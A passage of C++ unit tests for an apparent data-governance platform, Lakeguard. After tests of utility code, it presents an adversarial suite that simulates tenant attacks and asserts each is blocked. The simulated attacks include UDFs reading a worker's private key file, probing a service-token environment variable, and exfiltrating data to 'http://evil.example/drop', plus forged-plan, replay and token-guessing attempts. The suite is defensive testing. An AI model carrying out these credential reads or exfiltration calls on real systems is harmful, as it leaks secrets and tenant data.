    EXPECT_STRNE(StatusCodeToString(static_cast<StatusCode>(c)), "unknown");
  }
}

TEST(ResultTest, HoldsValue) {
  Result<int> r(42);
  ASSERT_TRUE(r.ok());
  EXPECT_EQ(*r, 42);
  EXPECT_EQ(r.ValueOr(0), 42);
}

TEST(ResultTest, HoldsError) {
  Result<int> r(Status::InvalidArgument("bad"));
  ASSERT_FALSE(r.ok());
  EXPECT_TRUE(r.status().IsInvalidArgument());
  EXPECT_EQ(r.ValueOr(7), 7);
}

TEST(ResultTest, MacrosPropagate) {
  auto inner = []() -> Result<int> { return Status::NotFound("x"); };
  auto outer = [&]() -> Result<int> {
    LG_ASSIGN_OR_RETURN(int v, inner());
    return v + 1;
  };
  EXPECT_TRUE(outer().status().IsNotFound());

  auto ok_inner = []() -> Result<int> { return 4; };
  auto ok_outer = [&]() -> Result<int> {
    LG_ASSIGN_OR_RETURN(int v, ok_inner());
    return v + 1;
  };
  EXPECT_EQ(*ok_outer(), 5);
}

// ---- Serde --------------------------------------------------------------------

TEST(SerdeTest, VarintRoundTrip) {
  ByteWriter w;
  const uint64_t values[] = {0, 1, 127, 128, 300, 1ULL << 31, ~0ULL};
  for (uint64_t v : values) w.PutVarint(v);
  ByteReader r(w.data());
  for (uint64_t v : values) {
    auto got = r.ReadVarint();
    ASSERT_TRUE(got.ok());
    EXPECT_EQ(*got, v);
  }
  EXPECT_TRUE(r.AtEnd());
}

TEST(SerdeTest, ZigzagRoundTrip) {
  ByteWriter w;
  const int64_t values[] = {0, -1, 1, -64, 64, INT64_MIN, INT64_MAX};
  for (int64_t v : values) w.PutZigzag(v);
  ByteReader r(w.data());
  for (int64_t v : values) {
    auto got = r.ReadZigzag();
    ASSERT_TRUE(got.ok());
    EXPECT_EQ(*got, v);
  }
}

TEST(SerdeTest, DoubleAndStringRoundTrip) {
  ByteWriter w;
  w.PutDouble(3.14159);
  w.PutString("hello lakeguard");
  w.PutString("");
  ByteReader r(w.data());
  EXPECT_DOUBLE_EQ(*r.ReadDouble(), 3.14159);
  EXPECT_EQ(*r.ReadString(), "hello lakeguard");
  EXPECT_EQ(*r.ReadString(), "");
}

TEST(SerdeTest, TruncationIsDataLoss) {
  ByteWriter w;
  w.PutString("abcdef");
  std::vector<uint8_t> cut(w.data().begin(), w.data().begin() + 3);
  ByteReader r(cut);
  EXPECT_EQ(r.ReadString().status().code(), StatusCode::kDataLoss);
}

TEST(SerdeTest, TaggedFieldsSkipUnknown) {
  ByteWriter w;
  w.PutTaggedVarint(1, 7);
  w.PutTaggedString(99, "future field");  // unknown to the reader below
  w.PutTaggedDouble(2, 2.5);
  ByteReader r(w.data());
  uint64_t got_int = 0;
  double got_double = 0;
  while (!r.AtEnd()) {
    auto tag = r.ReadTag();
    ASSERT_TRUE(tag.ok());
    if (tag->field == 1) {
      got_int = *r.ReadVarint();
    } else if (tag->field == 2) {
      got_double = *r.ReadDouble();
    } else {
      ASSERT_TRUE(r.SkipValue(tag->type).ok());
    }
  }
  EXPECT_EQ(got_int, 7u);
  EXPECT_DOUBLE_EQ(got_double, 2.5);
}

TEST(SerdeTest, NestedMessages) {
  ByteWriter inner;
  inner.PutTaggedString(1, "nested");
  ByteWriter outer;
  outer.PutTaggedMessage(5, inner);
  ByteReader r(outer.data());
  auto tag = r.ReadTag();
  ASSERT_TRUE(tag.ok());
  EXPECT_EQ(tag->field, 5u);
  auto sub = r.ReadMessage();
  ASSERT_TRUE(sub.ok());
  auto tag2 = sub->ReadTag();
  ASSERT_TRUE(tag2.ok());
  EXPECT_EQ(*sub->ReadString(), "nested");
}

// ---- SHA-256 -------------------------------------------------------------------

TEST(Sha256Test, KnownVectors) {
  // FIPS 180-4 test vectors.
  EXPECT_EQ(Sha256::HexDigest(""),
            "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855");
  EXPECT_EQ(Sha256::HexDigest("abc"),
            "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad");
  EXPECT_EQ(Sha256::HexDigest(
                "abcdbcdecdefdefgefghfghighijhijkijkljklmklmnlmnomnopnopq"),
            "248d6a61d20638b8e5c026930c3e6039a33ce45964ff2167f6ecedd419db06c1");
}

TEST(Sha256Test, IncrementalMatchesOneShot) {
  std::string data(1000, 'x');
  Sha256 h;
  for (size_t i = 0; i < data.size(); i += 7) {
    h.Update(data.substr(i, 7));
  }
  auto incremental = h.Finish();
  auto oneshot = Sha256::Digest(data);
  EXPECT_EQ(incremental, oneshot);
}

TEST(Sha256Test, Fnv1aStable) {
  EXPECT_EQ(Fnv1a64("lakeguard"), Fnv1a64("lakeguard"));
  EXPECT_NE(Fnv1a64("lakeguard"), Fnv1a64("lakeguarD"));
  EXPECT_EQ(Fnv1a64(""), 0xcbf29ce484222325ULL);
}

// ---- Strings -------------------------------------------------------------------

TEST(StringsTest, JoinAndSplit) {
  EXPECT_EQ(JoinStrings({"a", "b", "c"}, "."), "a.b.c");
  EXPECT_EQ(JoinStrings({}, "."), "");
  auto parts = SplitString("main.sales.orders", '.');
  ASSERT_EQ(parts.size(), 3u);
  EXPECT_EQ(parts[0], "main");
  EXPECT_EQ(parts[2], "orders");
  EXPECT_EQ(SplitString("a..b", '.').size(), 3u);
}

TEST(StringsTest, CaseHelpers) {
  EXPECT_EQ(ToUpperAscii("SeLeCt"), "SELECT");
  EXPECT_EQ(ToLowerAscii("SeLeCt"), "select");
  EXPECT_TRUE(EqualsIgnoreCase("AMOUNT", "amount"));
  EXPECT_FALSE(EqualsIgnoreCase("amount", "amounts"));
}

TEST(StringsTest, Wildcards) {
  EXPECT_TRUE(MatchesWildcard("mem://b/t/*", "mem://b/t/part-0"));
  EXPECT_FALSE(MatchesWildcard("mem://b/t/*", "mem://b/u/part-0"));
  EXPECT_TRUE(MatchesWildcard("*.aqi.com", "zip.aqi.com"));
  EXPECT_FALSE(MatchesWildcard("*.aqi.com", "aqi.com.evil.org"));
  EXPECT_TRUE(MatchesWildcard("exact", "exact"));
  EXPECT_FALSE(MatchesWildcard("exact", "exactly"));
  EXPECT_TRUE(MatchesWildcard("a*b", "a-middle-b"));
  EXPECT_FALSE(MatchesWildcard("a*b", "ab-no"));
}

// ---- Clock & ids ----------------------------------------------------------------

TEST(ClockTest, SimulatedClockAdvances) {
  SimulatedClock clock(1000);
  EXPECT_EQ(clock.NowMicros(), 1000);
  clock.AdvanceMicros(2'000'000);
  EXPECT_EQ(clock.NowMicros(), 2'001'000);
  EXPECT_EQ(clock.NowMillis(), 2001);
  clock.SetMicros(5);
  EXPECT_EQ(clock.NowMicros(), 5);
}

TEST(ClockTest, RealClockMonotone) {
  RealClock* clock = RealClock::Instance();
  int64_t a = clock->NowMicros();
  int64_t b = clock->NowMicros();
  EXPECT_LE(a, b);
}

TEST(IdTest, UniqueAndPrefixed) {
  std::string a = IdGenerator::Next("sess");
  std::string b = IdGenerator::Next("sess");
  EXPECT_NE(a, b);
  EXPECT_EQ(a.rfind("sess-", 0), 0u);
  uint64_t first = IdGenerator::NextInt();
  uint64_t second = IdGenerator::NextInt();
  EXPECT_LT(first, second);
}

}  // namespace
}  // namespace lakeguard
