// "Break it, Fix it" adversarial corpus: every known way a tenant could try
// to escape Lakeguard's governance, each driven end-to-end against the real
// platform objects and each required to die with a *typed* status whose
// retryability classification is consistent (security denials must never be
// retried into the governance layer; resource exhaustion may be).
//
// Attack surface map (each TEST is one attack):
//   sandbox escape      A1 file read, A2 env probe, A3 network egress,
//                       A4 unbounded cpu
//   forged plans        A5 pre-resolved scan w/o credentials (PV005),
//                       A6 mask-stripped scan (PV001), A13 cross-owner UDF
//                       nesting (PV003)
//   replay              A7 prepared plan as another principal, A8 across
//                       compute, A9 across a policy change (epoch race),
//                       A17 stale session snapshot vs revoked grants,
//                       A18 tampered/forged migration snapshots
//   confused deputy     A10 token scope escape + token guessing, A11
//                       expired/revoked tokens, A14 write with read token
//   side channels       A12 existence oracle, A15 denied queries vend
//                       nothing (and audit records the truth)
//   durable state       A19 stale-checkpoint rollback (LSN-gap reject),
//                       A20 tampered WAL record (CRC fails closed)
//   admission           A21 fuel-bomb / malformed bytecode rejected by the
//                       static verifier before any sandbox exists, A22
//                       taint exfiltration (masked column -> sink) rejected
//                       statically at dispatch and at PV008

#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>
#include <string>
#include <utility>
#include <vector>

#include "common/retry.h"
#include "connect/session_snapshot.h"
#include "storage/durable/durable_log.h"
#include "core/platform.h"
#include "engine/plan_verifier.h"
#include "sandbox/dispatcher.h"
#include "sandbox/host_env.h"
#include "sandbox/sandbox.h"
#include "sql/parser.h"
#include "udf/builder.h"
#include "udf/verifier/cache.h"
#include "udf/verifier/verifier.h"

namespace lakeguard {
namespace {

/// Every blocked attack must carry: a failure (never kOk), the exact typed
/// status code the subsystem documents, and a retryability classification
/// that matches the code (denials non-retryable, exhaustion retryable).
void ExpectBlocked(const Status& status, StatusCode code, bool retryable,
                   const char* attack) {
  EXPECT_FALSE(status.ok()) << attack << ": attack was NOT blocked";
  EXPECT_EQ(status.code(), code) << attack << ": " << status;
  EXPECT_EQ(IsTransientError(status), retryable)
      << attack << ": wrong retryability for " << status;
}

class AttackTest : public ::testing::Test {
 protected:
  AttackTest() {
    EXPECT_TRUE(platform_.AddUser("admin").ok());
    EXPECT_TRUE(platform_.AddUser("alice").ok());  // victim principal
    EXPECT_TRUE(platform_.AddUser("eve").ok());    // attacker principal
    platform_.AddMetastoreAdmin("admin");
    platform_.RegisterToken("tok-eve", "eve");
    EXPECT_TRUE(platform_.catalog().CreateCatalog("admin", "main").ok());
    EXPECT_TRUE(platform_.catalog().CreateSchema("admin", "main.s").ok());
    EXPECT_TRUE(platform_.catalog().CreateSchema("admin", "main.hidden").ok());

    cluster_ = platform_.CreateStandardCluster();
    admin_ctx_ = *platform_.DirectContext(cluster_, "admin");
    Must("CREATE TABLE main.s.sales (region STRING, amount BIGINT)");
    Must("INSERT INTO main.s.sales VALUES ('US', 120), ('EU', 75)");
    Must("ALTER TABLE main.s.sales SET ROW FILTER (region = 'US')");
    Must("CREATE TABLE main.s.customers (name STRING, ssn STRING)");
    Must("INSERT INTO main.s.customers VALUES ('ann', '123-45-6789')");
    Must("ALTER TABLE main.s.customers ALTER COLUMN ssn SET MASK "
         "(REDACT(ssn))");
    Must("CREATE TABLE main.s.plain (x BIGINT)");
    Must("INSERT INTO main.s.plain VALUES (1), (2)");
    Must("CREATE TABLE main.hidden.secret (payload STRING)");
    Must("GRANT USE CATALOG ON main TO eve");
    Must("GRANT USE SCHEMA ON main.s TO eve");
    Must("GRANT SELECT ON main.s.sales TO eve");
    Must("GRANT SELECT ON main.s.plain TO eve");
    eve_ctx_ = *platform_.DirectContext(cluster_, "eve");
  }

  void Must(const std::string& sql) {
    auto result = cluster_->engine->ExecuteSql(sql, admin_ctx_);
    ASSERT_TRUE(result.ok()) << sql << " -> " << result.status();
  }

  /// One-row int batch, the carrier payload for malicious UDF bytecode.
  static RecordBatch OneRowBatch() {
    TableBuilder builder(Schema({{"x", TypeKind::kInt64, true}}));
    EXPECT_TRUE(builder.AppendRow({Value::Int(1)}).ok());
    auto combined = builder.Build().Combine();
    EXPECT_TRUE(combined.ok());
    return *combined;
  }

  static UdfInvocation Invocation(UdfBytecode bytecode) {
    UdfInvocation inv;
    inv.bytecode = std::move(bytecode);
    inv.result_name = "r";
    inv.result_type = TypeKind::kString;
    return inv;
  }

  LakeguardPlatform platform_;
  ClusterHandle* cluster_ = nullptr;
  ExecutionContext admin_ctx_;
  ExecutionContext eve_ctx_;
};

/// Sandbox attacks run against a host environment salted with exactly the
/// secrets a real worker holds: the metastore service token and its TLS key.
class SandboxAttackTest : public AttackTest {
 protected:
  SandboxAttackTest() : clock_(0), env_(&clock_) {
    env_.SetEnv("UC_SERVICE_TOKEN", "svc-secret-do-not-leak");
    env_.WriteFile("/var/keys/metastore.pem", "PRIVATE KEY");
  }

  SimulatedClock clock_;
  SimulatedHostEnvironment env_;
};

// ---- A1..A4: malicious LGVM UDFs (capability exfiltration) ------------------

TEST_F(SandboxAttackTest, A1_UdfReadsWorkerFilesystem) {
  Sandbox sandbox("sbx-eve", "eve", SandboxPolicy::LockedDown(), &env_,
                  &clock_);
  auto result = sandbox.ExecuteBatch(
      OneRowBatch(),
      {Invocation(canned::FileExfiltrationUdf("/var/keys/metastore.pem"))});
  ExpectBlocked(result.status(), StatusCode::kPermissionDenied,
                /*retryable=*/false, "A1 file read");
  EXPECT_GE(sandbox.stats().denied_host_calls, 1u);
}

TEST_F(SandboxAttackTest, A2_UdfProbesServiceTokenEnv) {
  Sandbox sandbox("sbx-eve", "eve", SandboxPolicy::LockedDown(), &env_,
                  &clock_);
  auto result = sandbox.ExecuteBatch(
      OneRowBatch(), {Invocation(canned::EnvProbeUdf("UC_SERVICE_TOKEN"))});
  ExpectBlocked(result.status(), StatusCode::kPermissionDenied,
                /*retryable=*/false, "A2 env probe");
}

TEST_F(SandboxAttackTest, A3_UdfExfiltratesRowsOverNetwork) {
  Sandbox sandbox("sbx-eve", "eve", SandboxPolicy::LockedDown(), &env_,
                  &clock_);
  UdfInvocation net =
      Invocation(canned::NetworkExfiltrationUdf("http://evil.example/drop"));
  net.arg_indices = {0};  // ships the column value in the request
  auto result = sandbox.ExecuteBatch(OneRowBatch(), {net});
  ExpectBlocked(result.status(), StatusCode::kPermissionDenied,
                /*retryable=*/false, "A3 network exfiltration");
  // The attempted drop was observed (and blocked) at the network namespace.
  EXPECT_GE(env_.BlockedEgressCount(), 1u);
}

TEST_F(SandboxAttackTest, A4_UdfBurnsUnboundedCpu) {
  SandboxPolicy policy = SandboxPolicy::LockedDown();
  policy.fuel = 10'000;
  Sandbox sandbox("sbx-eve", "eve", policy, &env_, &clock_);
  auto result = sandbox.ExecuteBatch(
      OneRowBatch(), {Invocation(canned::InfiniteLoopUdf())});
  // Resource exhaustion IS retryable — it is a capacity signal, not a
  // security denial (a retry may land under a larger interactive budget).
  ExpectBlocked(result.status(), StatusCode::kResourceExhausted,
                /*retryable=*/true, "A4 fuel runaway");
}

// ---- A5, A6, A13: forged plans against the Connect admission path -----------

TEST_F(AttackTest, A5_ForgedScanWithoutCatalogResolutionDiesPV005) {
  // main.s.plain carries NO policies, so a hand-crafted ResolvedScan leaf
  // slips past the policy-region invariant (V1). The tightened credential
  // invariant is what kills it: a locally enforced scan that never went
  // through catalog resolution carries no vended token (V5, PV005).
  PolicyInspection info = platform_.catalog().InspectPolicies(
      "eve", eve_ctx_.compute, "main.s.plain");
  ASSERT_TRUE(info.found);
  auto eve = platform_.Connect(cluster_, "tok-eve");
  ASSERT_TRUE(eve.ok()) << eve.status();
  PlanPtr forged =
      MakeResolvedScan("main.s.plain", info.storage_root, info.schema);
  auto rows = eve->ExecutePlanRemote(forged);
  ExpectBlocked(rows.status(), StatusCode::kFailedPrecondition,
                /*retryable=*/false, "A5 forged credential-less scan");
  EXPECT_NE(rows.status().message().find(PlanVerifier::kOverbroadCredential),
            std::string::npos)
      << rows.status();
}

TEST_F(AttackTest, A6_MaskStrippedForgedScanDiesPV001) {
  // A bare ResolvedScan of the masked table — the classic "submit a
  // pre-resolved plan and skip policy injection" move.
  PolicyInspection info = platform_.catalog().InspectPolicies(
      "eve", eve_ctx_.compute, "main.s.customers");
  ASSERT_TRUE(info.found);
  auto eve = platform_.Connect(cluster_, "tok-eve");
  ASSERT_TRUE(eve.ok()) << eve.status();
  PlanPtr forged =
      MakeResolvedScan("main.s.customers", info.storage_root, info.schema);
  auto rows = eve->ExecutePlanRemote(forged);
  ExpectBlocked(rows.status(), StatusCode::kFailedPrecondition,
                /*retryable=*/false, "A6 mask-stripped scan");
  EXPECT_NE(rows.status().message().find(PlanVerifier::kPolicyMissing),
            std::string::npos)
      << rows.status();
}

TEST_F(AttackTest, A13_CrossTrustDomainUdfNestingDiesPV003) {
  // Fusing bob's UDF output into alice's UDF input inside one Project would
  // run two trust domains through one sandbox dispatch.
  auto stmt = ParseSql("SELECT x FROM main.s.plain");
  ASSERT_TRUE(stmt.ok());
  Analyzer analyzer(&platform_.catalog(), eve_ctx_);
  auto analysis = analyzer.Analyze(std::get<SelectStatement>(*stmt).plan);
  ASSERT_TRUE(analysis.ok()) << analysis.status();
  ExprPtr fused = Udf("main.s.f_alice", "alice", TypeKind::kInt64,
                      {Udf("main.s.g_bob", "bob", TypeKind::kInt64,
                           {ColIdx("x", 0)})});
  PlanPtr forged = MakeProject(analysis->plan, {fused}, {"y"});
  auto eve = platform_.Connect(cluster_, "tok-eve");
  ASSERT_TRUE(eve.ok()) << eve.status();
  auto rows = eve->ExecutePlanRemote(forged);
  ExpectBlocked(rows.status(), StatusCode::kFailedPrecondition,
                /*retryable=*/false, "A13 trust-domain fusion");
  EXPECT_NE(rows.status().message().find(PlanVerifier::kTrustDomainFusion),
            std::string::npos)
      << rows.status();
}

// ---- A7, A8, A9: prepared-plan replay ---------------------------------------

TEST_F(AttackTest, A7_PreparedPlanReplayedAsAnotherPrincipal) {
  // admin prepares; eve grabs the prepared handle and tries to execute it —
  // which would run with admin's vended credentials and admin's policy set.
  auto prepared = cluster_->engine->PrepareSql(
      "SELECT amount FROM main.s.sales", admin_ctx_);
  ASSERT_TRUE(prepared.ok()) << prepared.status();
  auto rows = cluster_->engine->ExecutePrepared(std::move(*prepared),
                                                eve_ctx_);
  ExpectBlocked(rows.status(), StatusCode::kPermissionDenied,
                /*retryable=*/false, "A7 principal replay");
  EXPECT_NE(rows.status().message().find("bound to principal"),
            std::string::npos)
      << rows.status();
}

TEST_F(AttackTest, A8_PreparedPlanReplayedAcrossCompute) {
  // Same principal, different cluster: the privilege scope of the compute
  // differs (downscoped clusters exist), so the binding is (user, compute).
  ClusterHandle* other = platform_.CreateStandardCluster();
  auto other_ctx = platform_.DirectContext(other, "eve");
  ASSERT_TRUE(other_ctx.ok());
  auto prepared = cluster_->engine->PrepareSql(
      "SELECT amount FROM main.s.sales", eve_ctx_);
  ASSERT_TRUE(prepared.ok()) << prepared.status();
  auto rows = cluster_->engine->ExecutePrepared(std::move(*prepared),
                                                *other_ctx);
  ExpectBlocked(rows.status(), StatusCode::kPermissionDenied,
                /*retryable=*/false, "A8 compute replay");
}

TEST_F(AttackTest, A9_PolicyChangeRaceForcesReverification) {
  // Prepare under epoch N, change the row filter (epoch N+1), execute: the
  // prepared plan still enforces the OLD filter. Execution must re-verify
  // against current policy and reject with the verifier's typed status —
  // never run stale enforcement.
  auto prepared = cluster_->engine->PrepareSql(
      "SELECT amount FROM main.s.sales", eve_ctx_);
  ASSERT_TRUE(prepared.ok()) << prepared.status();
  Must("ALTER TABLE main.s.sales SET ROW FILTER (region = 'EU')");
  auto rows = cluster_->engine->ExecutePrepared(std::move(*prepared),
                                                eve_ctx_);
  ExpectBlocked(rows.status(), StatusCode::kFailedPrecondition,
                /*retryable=*/false, "A9 policy-change race");
  EXPECT_NE(rows.status().message().find("catalog changed since preparation"),
            std::string::npos)
      << rows.status();

  // Control: an epoch bump that does NOT touch this plan's policy shape
  // re-verifies cleanly and executes (staleness alone is not a denial).
  auto again = cluster_->engine->PrepareSql(
      "SELECT amount FROM main.s.sales", eve_ctx_);
  ASSERT_TRUE(again.ok()) << again.status();
  Must("CREATE TABLE main.s.unrelated (y BIGINT)");
  auto stream = cluster_->engine->ExecutePrepared(std::move(*again),
                                                  eve_ctx_);
  ASSERT_TRUE(stream.ok()) << stream.status();
}

// ---- A10, A11, A14: credential confused-deputy probes -----------------------

TEST_F(AttackTest, A10_TokenScopeEscapeAndTokenGuessing) {
  CredentialAuthority& authority = platform_.authority();
  StorageCredential cred = authority.Issue(
      "alice", "c-1", {"s3://bucket/alice/*"}, /*allow_write=*/false,
      /*ttl_micros=*/60'000'000);

  // Deputy holds alice's token and asks for another tenant's path.
  auto escape = authority.Authorize(
      cred.token_id, "s3://bucket/victim/part-0.bin", StorageOp::kRead);
  ExpectBlocked(escape.status(), StatusCode::kPermissionDenied,
                /*retryable=*/false, "A10 scope escape");

  // Wholly unknown token: unauthenticated, not merely denied.
  auto unknown = authority.Authorize("tok-0000000000000000",
                                     "s3://bucket/alice/x", StorageOp::kRead);
  ExpectBlocked(unknown.status(), StatusCode::kUnauthenticated,
                /*retryable=*/false, "A10 unknown token");

  // Neighbor-guessing: token ids are hashed from a random seed, so the
  // holder of one token cannot derive an adjacent one. Perturbing the last
  // character must land on nothing.
  std::string guess = cred.token_id;
  guess.back() = guess.back() == 'a' ? 'b' : 'a';
  auto guessed =
      authority.Authorize(guess, "s3://bucket/alice/x", StorageOp::kRead);
  ExpectBlocked(guessed.status(), StatusCode::kUnauthenticated,
                /*retryable=*/false, "A10 token guess");
  // And ids are opaque: fixed "tok-" prefix plus a 16-hex-digit digest.
  EXPECT_EQ(cred.token_id.size(), 20u);
  EXPECT_EQ(cred.token_id.rfind("tok-", 0), 0u);
}

TEST_F(AttackTest, A11_ExpiredAndRevokedTokensRejected) {
  CredentialAuthority& authority = platform_.authority();
  StorageCredential cred = authority.Issue(
      "alice", "c-1", {"s3://bucket/alice/*"}, /*allow_write=*/false,
      /*ttl_micros=*/1'000'000);
  ASSERT_TRUE(authority
                  .Authorize(cred.token_id, "s3://bucket/alice/x",
                             StorageOp::kRead)
                  .ok());
  platform_.simulated_clock()->AdvanceMicros(2'000'000);
  auto expired = authority.Authorize(cred.token_id, "s3://bucket/alice/x",
                                     StorageOp::kRead);
  ExpectBlocked(expired.status(), StatusCode::kUnauthenticated,
                /*retryable=*/false, "A11 expired token");

  StorageCredential fresh = authority.Issue(
      "alice", "c-1", {"s3://bucket/alice/*"}, false, 60'000'000);
  authority.Revoke(fresh.token_id);
  auto revoked = authority.Authorize(fresh.token_id, "s3://bucket/alice/x",
                                     StorageOp::kRead);
  ExpectBlocked(revoked.status(), StatusCode::kUnauthenticated,
                /*retryable=*/false, "A11 revoked token");
}

TEST_F(AttackTest, A14_WriteAttemptWithReadOnlyToken) {
  CredentialAuthority& authority = platform_.authority();
  StorageCredential cred = authority.Issue(
      "eve", "c-1", {"s3://bucket/eve/*"}, /*allow_write=*/false,
      /*ttl_micros=*/60'000'000);
  auto write = authority.Authorize(cred.token_id, "s3://bucket/eve/out.bin",
                                   StorageOp::kWrite);
  ExpectBlocked(write.status(), StatusCode::kPermissionDenied,
                /*retryable=*/false, "A14 write with read token");
  // The same probe for delete: still a mutation, still denied.
  auto del = authority.Authorize(cred.token_id, "s3://bucket/eve/out.bin",
                                 StorageOp::kDelete);
  ExpectBlocked(del.status(), StatusCode::kPermissionDenied,
                /*retryable=*/false, "A14 delete with read token");
}

// ---- A12, A15: side channels ------------------------------------------------

TEST_F(AttackTest, A12_ExistenceOracleClosed) {
  // eve has no USE SCHEMA on main.hidden: probing a real secret table and a
  // fabricated one must be indistinguishable — same code, same message
  // shape. (Before this fix, "permission denied" vs "not found" leaked the
  // metastore's table inventory to unprivileged principals.)
  auto real = platform_.catalog().ResolveRelation("eve", eve_ctx_.compute,
                                                  "main.hidden.secret");
  auto fake = platform_.catalog().ResolveRelation("eve", eve_ctx_.compute,
                                                  "main.hidden.ghost");
  ExpectBlocked(real.status(), StatusCode::kNotFound, /*retryable=*/false,
                "A12 probe existing");
  ExpectBlocked(fake.status(), StatusCode::kNotFound, /*retryable=*/false,
                "A12 probe missing");
  // Byte-identical messages modulo the probed name.
  std::string real_msg = real.status().message();
  std::string fake_msg = fake.status().message();
  size_t pos;
  while ((pos = real_msg.find("main.hidden.secret")) != std::string::npos) {
    real_msg.replace(pos, 18, "X");
  }
  while ((pos = fake_msg.find("main.hidden.ghost")) != std::string::npos) {
    fake_msg.replace(pos, 17, "X");
  }
  EXPECT_EQ(real_msg, fake_msg);

  // The same rule holds for functions.
  auto fn_real = platform_.catalog().ResolveFunction("eve", eve_ctx_.compute,
                                                     "main.hidden.fn");
  EXPECT_TRUE(fn_real.status().IsNotFound()) << fn_real.status();
}

TEST_F(AttackTest, A15_DeniedQueriesVendNothingAndAuditTruth) {
  // eve can see main.s but holds no SELECT on customers. The denial must be
  // a clean PermissionDenied (namespace IS visible), must vend zero storage
  // credentials, and the audit trail must record the denial truthfully.
  size_t tokens_before = platform_.authority().ActiveTokenCount();
  size_t denied_before = platform_.catalog().audit().DeniedCount();
  auto res = platform_.catalog().ResolveRelation("eve", eve_ctx_.compute,
                                                 "main.s.customers");
  ExpectBlocked(res.status(), StatusCode::kPermissionDenied,
                /*retryable=*/false, "A15 ungranted select");
  EXPECT_EQ(platform_.authority().ActiveTokenCount(), tokens_before)
      << "a denied resolution vended a credential";
  EXPECT_EQ(platform_.catalog().audit().DeniedCount(), denied_before + 1);
  // The audit record names the attacker and the securable.
  bool recorded = false;
  for (const AuditEvent& e :
       platform_.catalog().audit().ForSecurable("main.s.customers")) {
    if (e.principal == "eve" && !e.allowed) recorded = true;
  }
  EXPECT_TRUE(recorded);
}

// ---- A16: stale compiled-policy programs ------------------------------------

TEST_F(AttackTest, A16_PolicyChangeInvalidatesCompiledScanEvaluators) {
  // The fused path caches compiled per-(table, principal, policy-version)
  // scan evaluators. If invalidation lagged the catalog, eve would keep
  // reading under the OLD row filter after admin tightened it — a silent
  // stale-policy leak that raises no error anywhere.
  PolicyEvalCache::Stats start = platform_.policy_cache().stats();

  // Warm the cache: region = 'US' admits exactly the (US, 120) row.
  auto first = cluster_->engine->ExecuteSql(
      "SELECT region, amount FROM main.s.sales", eve_ctx_);
  ASSERT_TRUE(first.ok()) << first.status();
  auto rows1 = first->Combine();
  ASSERT_TRUE(rows1.ok());
  ASSERT_EQ(rows1->num_rows(), 1u);
  EXPECT_EQ(rows1->column(0).GetValue(0), Value::String("US"));
  PolicyEvalCache::Stats warmed = platform_.policy_cache().stats();
  ASSERT_GT(warmed.compiles, start.compiles)
      << "fused path never engaged; the attack surface is untested";

  // Same query again: served from cache, identical enforcement.
  auto repeat = cluster_->engine->ExecuteSql(
      "SELECT region, amount FROM main.s.sales", eve_ctx_);
  ASSERT_TRUE(repeat.ok()) << repeat.status();
  PolicyEvalCache::Stats cached = platform_.policy_cache().stats();
  EXPECT_GT(cached.hits, warmed.hits);
  EXPECT_EQ(cached.compiles, warmed.compiles);

  // Admin flips the row filter (epoch bump). The VERY NEXT scan — same SQL,
  // same principal, same session, no restart — must run a freshly compiled
  // program and enforce the new policy.
  Must("ALTER TABLE main.s.sales SET ROW FILTER (region = 'EU')");
  auto second = cluster_->engine->ExecuteSql(
      "SELECT region, amount FROM main.s.sales", eve_ctx_);
  ASSERT_TRUE(second.ok()) << second.status();
  auto rows2 = second->Combine();
  ASSERT_TRUE(rows2.ok());
  ASSERT_EQ(rows2->num_rows(), 1u) << "stale compiled policy leaked rows";
  EXPECT_EQ(rows2->column(0).GetValue(0), Value::String("EU"));
  EXPECT_EQ(rows2->column(1).GetValue(0), Value::Int(75));
  PolicyEvalCache::Stats after = platform_.policy_cache().stats();
  EXPECT_GT(after.compiles, cached.compiles)
      << "post-change scan reused a compiled program for the old policy";

  // Dropping the filter entirely must also take effect immediately.
  Must("ALTER TABLE main.s.sales DROP ROW FILTER");
  auto third = cluster_->engine->ExecuteSql(
      "SELECT region, amount FROM main.s.sales", eve_ctx_);
  ASSERT_TRUE(third.ok()) << third.status();
  auto rows3 = third->Combine();
  ASSERT_TRUE(rows3.ok());
  EXPECT_EQ(rows3->num_rows(), 2u);
}

// ---- A17/A18: migration snapshot replay and forgery -------------------------

TEST_F(AttackTest, A17_StaleSnapshotReplayCannotResurrectRevokedGrants) {
  // eve exports a session holding a prepared statement against a table she
  // can read, admin revokes the grant, then eve replays the snapshot onto a
  // fresh replica. The import must re-verify every prepared statement
  // against the CURRENT catalog — the stale binding stamps in the snapshot
  // carry no authority.
  auto session = cluster_->service->OpenSession("tok-eve");
  ASSERT_TRUE(session.ok());
  auto statement = cluster_->service->PrepareStatement(
      *session, "SELECT amount FROM main.s.sales");
  ASSERT_TRUE(statement.ok()) << statement.status();
  auto snapshot = cluster_->service->ExportSession(*session);
  ASSERT_TRUE(snapshot.ok());

  Must("REVOKE SELECT ON main.s.sales FROM eve");

  ClusterHandle* dest = platform_.CreateStandardCluster();
  size_t sessions_before = dest->service->ActiveSessionCount();
  auto imported = dest->service->ImportSession(*snapshot, "tok-eve");
  ExpectBlocked(imported.status(), StatusCode::kPermissionDenied,
                /*retryable=*/false, "A17 stale snapshot replay");
  // All-or-nothing: the rejected import leaves no half-built session.
  EXPECT_EQ(dest->service->ActiveSessionCount(), sessions_before);
  EXPECT_GE(dest->service->service_stats().import_rejects, 1u);
}

TEST_F(AttackTest, A18_TamperedSnapshotsAreRejectedAsForgeries) {
  auto session = cluster_->service->OpenSession("tok-eve");
  ASSERT_TRUE(session.ok());
  auto statement = cluster_->service->PrepareStatement(
      *session, "SELECT amount FROM main.s.sales");
  ASSERT_TRUE(statement.ok()) << statement.status();
  auto exported = cluster_->service->ExportSession(*session);
  ASSERT_TRUE(exported.ok());
  ClusterHandle* dest = platform_.CreateStandardCluster();

  // Forgery 1: stamp the snapshot with a future catalog epoch to defeat
  // epoch-based staleness checks. The destination knows the current epoch
  // and refuses time travelers.
  {
    auto snapshot = DecodeSessionSnapshot(*exported);
    ASSERT_TRUE(snapshot.ok());
    snapshot->source_epoch = platform_.catalog().epoch() + 100;
    auto imported = dest->service->ImportSession(
        EncodeSessionSnapshot(*snapshot), "tok-eve");
    ExpectBlocked(imported.status(), StatusCode::kFailedPrecondition,
                  /*retryable=*/false, "A18 future-epoch forgery");
  }

  // Forgery 2: rebind a prepared-statement record to a different principal
  // (hoping the destination trusts the per-record stamp over the session
  // identity). Binding stamps must cohere with the snapshot's identity.
  {
    auto snapshot = DecodeSessionSnapshot(*exported);
